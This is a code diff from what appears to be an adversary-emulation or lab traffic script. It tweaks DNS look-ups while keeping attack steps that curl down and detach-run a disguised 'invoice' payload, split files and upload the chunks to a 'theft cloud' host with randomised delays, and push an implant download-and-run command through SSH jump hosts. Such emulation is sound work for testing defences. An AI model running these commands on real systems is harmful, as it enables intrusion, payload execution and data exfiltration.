@@ -24,7 +24,7 @@ IMPACKET = "/usr/share/doc/python3-impacket/examples/smbclient.py"
 
 CLICK = r"""
 export PATH=/mnt/bin:$PATH HOSTNAME; cd /tmp
-ip=$(rec 'look-up of @N@' udp 61053 10.50.0.53:53 dig +short -b '0.0.0.0#61053' @N@ | tail -n 1)
+ip=$(rec 'look-up of @N@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @N@ | tail -n 1)
 rec 'payload download' tcp - @A@:443 curl -sk --resolve @N@:443:$ip -o invoice-4471.sh https://@N@/invoice-4471.sh
 sleep 4
 setsid nohup bash invoice-4471.sh ws14 >/dev/null 2>&1 </dev/null &
@@ -40,7 +40,7 @@ pull() {
 leave() {
 	split -b @CHUNK@ -d "$1" "out/$1."
 	for piece in out/"$1".*; do
-		ip=$(rec 'look-up of @CLOUD_NAME@' udp 61054 10.50.0.53:53 dig +short +tries=1 +time=2 -b '0.0.0.0#61054' @CLOUD_NAME@ | tail -n 1)
+		ip=$(rec 'look-up of @CLOUD_NAME@' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' @CLOUD_NAME@ | tail -n 1)
 		rec 'theft cloud' tcp - @CLOUD@:443 curl -sk -m 30 --resolve "@CLOUD_NAME@:443:$ip" -T "$piece" \
 			"https://@CLOUD_NAME@/u/@ACCOUNT@-${piece##*/}"
 		sleep "$(awk -v r=$RANDOM 'BEGIN { print @GAP@ * (0.6 + 0.8 * r / 32768) }')"
@@ -106,7 +106,7 @@ def operate(agent, book):
 
     book.at(160)
     since = time.time()
-    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp 61053 10.50.0.53:53 dig +short -b '0.0.0.0#61053' {n} | tail -n 1)\n"
+    implant = ("cd /tmp; ip=$(rec 'look-up of {n}' udp any 10.50.0.53:53 dig +short +noedns +noadflag +tries=1 +time=2 -b '0.0.0.0#@SPORT@' {n} | tail -n 1)\n"
                "rec 'implant download' tcp - {a}:{p} curl -s --resolve {n}:{p}:$ip -o .u http://{n}:{p}/p\n"
                "setsid nohup bash .u ws03 >/dev/null 2>&1 </dev/null &\n").format(n=NAME, a=ADDRESS, p=PORT)
     work("ws14", hop(JUMP, "ops", hop(STAGE, "ops", implant, key="~/.ssh/id_ed25519"), secret))
